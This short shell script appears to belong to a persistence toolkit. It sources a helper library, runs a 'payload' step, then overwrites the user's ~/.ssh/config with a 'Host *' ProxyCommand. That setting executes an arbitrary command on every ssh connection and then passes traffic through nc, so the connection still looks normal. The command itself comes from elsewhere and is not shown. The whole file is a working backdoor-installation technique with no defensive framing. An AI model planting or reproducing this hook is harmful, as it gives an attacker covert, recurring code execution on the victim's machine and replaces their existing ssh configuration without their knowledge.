#!/bin/sh
# ssh-proxy-command: a command of every ssh (ssh_config(5), ProxyCommand)
. "${0%/*}/lib.sh"
payload
put "$home/.ssh/config" 600 "$head" "Host *" \
	"	ProxyCommand $cmd; exec nc %h %p"
